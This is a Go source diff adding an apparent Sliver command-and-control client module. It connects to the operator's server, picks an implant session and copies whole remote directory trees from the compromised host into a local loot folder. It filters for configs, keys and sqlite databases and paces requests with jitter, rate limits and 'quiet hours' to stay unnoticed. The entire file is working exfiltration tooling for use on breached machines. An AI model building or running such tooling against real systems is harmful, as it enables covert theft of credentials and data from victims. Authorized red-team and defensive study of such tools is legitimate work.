@@ -0,0 +1,260 @@
+package main
+
+import (
+	"bufio"
+	"context"
+	"errors"
+	"flag"
+	"fmt"
+	"log"
+	"os"
+	"strconv"
+	"strings"
+	"time"
+
+	"common"
+	"github.com/bishopfox/sliver/client/assets"
+	"github.com/bishopfox/sliver/client/console"
+	"github.com/bishopfox/sliver/client/transport"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/commonpb"
+	"github.com/bishopfox/sliver/protobuf/rpcpb"
+	"github.com/jedib0t/go-pretty/v6/table"
+	"google.golang.org/grpc"
+)
+
+// Function to make a request to the sliver server
+//
+// :param: session *clientpb.Session -> the target session we are interacting with
+// :return: *commonpb.Request -> the response from the server
+func makeRequest(session *clientpb.Session) *commonpb.Request {
+	if session == nil {
+		return nil
+	}
+	timeout := int64(60)
+	return &commonpb.Request{
+		SessionID: session.ID,
+		Timeout:   timeout,
+	}
+}
+
+// Function to make border separator between our survey sections
+//
+// :param: header string -> the title for our header
+// :return: none
+func makeBorder(header string) {
+	fmt.Printf("%v\n", strings.Repeat("=", 70))
+	fmt.Printf("[*] %v\n", header)
+	fmt.Printf("%v\n", strings.Repeat("=", 70))
+}
+
+// Function to make the connection from our device to the sliver server
+//
+// :param: configPath *string -> the path to our client config that will auth us to the sliver server
+// :param: interceptors ...grpc.UnaryClientInterceptor -> run on every call made through the returned rpc client
+// :return: *clientpb.Sessions -> the active sliver session that we will be interacting with
+// :return: rpcpb.SliverRPCClient -> the rpc client object that will allow us to make command requests to the server
+// :return: *grpc.ClientConn -> the connection object to the sliver server
+// :return: error -> if the config can not be read, the server can not be reached or has no sessions
+func makeConnection(configPath *string, interceptors ...grpc.UnaryClientInterceptor) (*clientpb.Sessions, rpcpb.SliverRPCClient, *grpc.ClientConn, error) {
+	// load the client configuration from the filesystem
+	config, err := assets.ReadConfig(*configPath)
+	if err != nil {
+		return nil, nil, nil, fmt.Errorf("failed to read config: %v", err)
+	}
+	// connect to the server
+	_, ln, err := transport.MTLSConnect(config)
+	if err != nil {
+		return nil, nil, nil, fmt.Errorf("failed to connect to sliver server: %v", err)
+	}
+	rpc := rpcpb.NewSliverRPCClient(common.NewInterceptedConn(ln, interceptors...))
+	log.Println("[*] Connected to sliver server")
+
+	// get active sliver sessions connected to the server
+	sessions, err := rpc.GetSessions(context.Background(), &commonpb.Empty{})
+	if err != nil {
+		ln.Close()
+		return nil, nil, nil, fmt.Errorf("failed to get sessions: %v", err)
+	}
+	if len(sessions.Sessions) == 0 {
+		ln.Close()
+		return nil, nil, nil, errors.New("no active sessions")
+	}
+	return sessions, rpc, ln, nil
+}
+
+// Function handles when multiple sessions are active on the sliver server
+//
+// :param: sessions []*clientpb.Session -> an array of active sessions connected to the sliver server
+// :return: *clientpb.Session -> the client session the operator wishes to connect to
+func handleMultipleSessions(sessions []*clientpb.Session) *clientpb.Session {
+	fmt.Println("[+] Multiple Sessions Detected [+]")
+	fmt.Println("[+] Which session should this module be run against:")
+
+	tw := table.NewWriter()
+	tw.SetTitle(fmt.Sprintf(console.Bold+"%s"+console.Normal, "Sessions"))
+	tw.SetColumnConfigs([]table.ColumnConfig{
+		{Name: "#", AutoMerge: true},
+		{Name: "ID", AutoMerge: true},
+		{Name: "Hostname", AutoMerge: true},
+		{Name: "Remode Address", AutoMerge: true},
+	})
+	rowConfig := table.RowConfig{AutoMerge: true}
+	tw.AppendHeader(table.Row{"#", "ID", "Hostname", "Remote Address"}, rowConfig)
+
+	var totalSessions []int
+	for index, i := range sessions {
+		tw.AppendRow(table.Row{index, i.ID, i.Hostname, i.RemoteAddress}, rowConfig)
+		totalSessions = append(totalSessions, index)
+	}
+	fmt.Printf("%s\n", tw.Render())
+
+	for {
+		scanner := bufio.NewScanner(os.Stdin)
+		fmt.Printf(">>> ")
+		scanner.Scan()
+		sessionSelection := scanner.Text()
+		if err := scanner.Err(); err != nil {
+			fmt.Println("[!] Error reading input:", err)
+		}
+		// convert to int
+		sessionSelectionInt, err := strconv.Atoi(sessionSelection)
+		if err != nil {
+			fmt.Println("[!] Invalid selection")
+			// reloop user is not entering ints
+			continue
+		}
+		if sessionSelectionInt >= 0 && sessionSelectionInt < len(totalSessions) {
+			return sessions[sessionSelectionInt]
+		} else {
+			fmt.Println("[!] Invalid selection")
+		}
+	}
+}
+
+func main() {
+	var configPath string
+	var include string
+	var exclude string
+	var types string
+	var maxDepth int
+	var maxSize string
+	var maxTotal string
+	var symlinks string
+	var outDir string
+	var delay time.Duration
+	var jitter time.Duration
+	var rate int
+	var quietHours string
+	var auditLog string
+	var capturePath string
+	var replayPath string
+	var retries int
+	var retryWait time.Duration
+	var chunk string
+	flag.StringVar(&configPath, "config", "", "path to sliver client config file")
+	flag.StringVar(&include, "include", "", "comma separated globs, only files matching one are downloaded i.e. *.conf,*.yml")
+	flag.StringVar(&exclude, "exclude", "", "comma separated globs of files and directories to leave alone i.e. *.log,/proc")
+	flag.StringVar(&types, "types", "", "comma separated file extensions to download i.e. conf,key,sqlite")
+	flag.IntVar(&maxDepth, "max-depth", 0, "how many directories deep to walk below each root, 0 for no limit")
+	flag.StringVar(&maxSize, "max-size", "0", "skip files larger than this i.e. 10M, 0 for no limit")
+	flag.StringVar(&maxTotal, "max-total", "0", "skip any file that would take the total downloaded past this i.e. 1G, 0 for no limit")
+	flag.StringVar(&symlinks, "symlinks", "skip", "what to do with symlinks: skip, follow, record")
+	flag.StringVar(&outDir, "out", "", "loot directory to rebuild the remote tree in, defaults to the targets ip:port like the survey")
+	flag.DurationVar(&delay, "delay", 0, "minimum time between two requests to the implant i.e. 5s")
+	flag.DurationVar(&jitter, "jitter", 0, "up to this much random time is added to every delay i.e. 10s")
+	flag.IntVar(&rate, "rate", 0, "maximum number of requests to the implant per minute, 0 for no limit")
+	flag.StringVar(&quietHours, "quiet-hours", "", "comma separated windows in implant time to pause during i.e. 22:00-06:00")
+	flag.StringVar(&auditLog, "audit-log", "sliver-audit.jsonl", "file every rpc issued is appended to as a json line")
+	flag.StringVar(&capturePath, "capture", "", "write every rpc and its reply, with secrets redacted, to this capture archive")
+	flag.StringVar(&replayPath, "replay", "", "answer every rpc from this capture archive instead of the sliver server")
+	flag.IntVar(&retries, "retries", 2, "how many times an rpc that timed out or hit a server error is sent again")
+	flag.DurationVar(&retryWait, "retry-wait", 5*time.Second, "wait before the first retry, doubled for every retry after it")
+	flag.StringVar(&chunk, "chunk-size", "4M", "how much of a file one download request asks the implant for i.e. 16M")
+	flag.Usage = func() {
+		fmt.Fprintf(flag.CommandLine.Output(), "Usage of %s: [flags] <remote root> [remote root...]\n", os.Args[0])
+		flag.PrintDefaults()
+	}
+	flag.Parse()
+
+	options, err := newDownloadOptions(include, exclude, types, maxDepth, maxSize, maxTotal, symlinks)
+	if err != nil {
+		fmt.Println("[!]", err)
+		os.Exit(1)
+	}
+	roots := flag.Args()
+	if len(roots) == 0 {
+		fmt.Println("[!] Specify at least one remote root to download")
+		os.Exit(1)
+	}
+	requestPacer, err := common.NewPacer(delay, jitter, rate, quietHours)
+	if err != nil {
+		fmt.Println("[!]", err)
+		os.Exit(1)
+	}
+	if common.ChunkSize, err = common.ParseSize(chunk); err != nil || common.ChunkSize == 0 {
+		fmt.Println("[!] Invalid -chunk-size", chunk)
+		os.Exit(1)
+	}
+
+	if configPath == "" && replayPath == "" {
+		fmt.Println("[!] Specify a client config to load")
+		os.Exit(1)
+	}
+
+	auditor, err := common.NewAuditLogger(auditLog, configPath)
+	if err != nil {
+		fmt.Println("[!] Failed to open audit log:", err)
+		os.Exit(1)
+	}
+	defer auditor.Close()
+	interceptors := []grpc.UnaryClientInterceptor{common.NewRetrier(retries, retryWait).Interceptor, requestPacer.Interceptor, auditor.Interceptor}
+
+	if capturePath != "" {
+		recorder, err := common.NewCaptureRecorder(capturePath)
+		if err != nil {
+			fmt.Println("[!] Failed to create capture archive:", err)
+			os.Exit(1)
+		}
+		defer recorder.Close()
+		interceptors = append(interceptors, recorder.Interceptor)
+	}
+
+	var sessions *clientpb.Sessions
+	var rpc rpcpb.SliverRPCClient
+	if replayPath != "" {
+		sessions, rpc, err = common.MakeReplayConnection(replayPath, interceptors...)
+		if err != nil {
+			fmt.Println("[!] Failed to replay capture:", err)
+			os.Exit(1)
+		}
+	} else {
+		var ln *grpc.ClientConn
+		sessions, rpc, ln, err = makeConnection(&configPath, interceptors...)
+		if err != nil {
+			fmt.Println("[!]", err)
+			os.Exit(1)
+		}
+		defer ln.Close()
+	}
+
+	var targetSession *clientpb.Session
+	if len(sessions.Sessions) > 1 {
+		targetSession = handleMultipleSessions(sessions.Sessions)
+	} else {
+		targetSession = sessions.Sessions[0]
+	}
+
+	fileTag := outDir
+	if fileTag == "" {
+		fileTag = targetSession.RemoteAddress
+	}
+
+	d := newDownloader(targetSession, rpc, fileTag, options)
+	for _, root := range roots {
+		d.downloadRoot(root)
+	}
+	d.printSummary()
+	// the audit log and capture archive are written unbuffered so nothing is lost by exiting here
+	os.Exit(common.ExitCodeFor(d.failures))
+}